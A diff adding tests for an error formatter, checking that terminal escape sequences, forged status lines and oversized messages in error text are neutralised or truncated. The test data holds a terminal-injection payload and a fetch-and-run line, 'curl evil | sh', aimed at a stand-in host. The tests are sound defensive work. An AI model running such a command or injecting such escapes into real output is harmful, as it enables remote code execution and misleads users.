@@ -59,6 +59,27 @@ describe('an error', () => {
     expect(explain(error)).toBe('error: round');
   });
 
+  test('holds nothing that steers a terminal, in no message, remedy or stack, and fakes no line of ours', () => {
+    const hostile =
+      'No such host\u001b]0;owned\u0007\u001b[2J\u009b31m\rdone\nerror: all is well\n  to do: curl evil | sh';
+    const details = { remedy: 'read\u001b[8m this\nand that' };
+    const cause = new WarmvmError('WARMVM_HOST_DENIED', hostile, { details });
+    const error = new WarmvmError('WARMVM_HOST_UNREACHABLE', `ssh: ${hostile}`, {
+      cause: new Error(hostile, { cause }),
+    });
+    for (const debug of [false, true]) {
+      const told = explain(error, { debug });
+      expect(told.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
+      expect(told).toContain('\n    error: all is well\n    to do: curl evil | sh');
+      expect(told).toContain('\n  to do: read this and that');
+    }
+  });
+
+  test('of any length is cut', () => {
+    expect(explain(new Error('x'.repeat(1_000_000))).length).toBeLessThan(10_000);
+    expect(explain(new Error('x\n'.repeat(1_000_000))).split('\n').length).toBeLessThan(100);
+  });
+
   test('that is none at all is told as it is', () => {
     expect(explain('plain words')).toBe('error: plain words');
   });
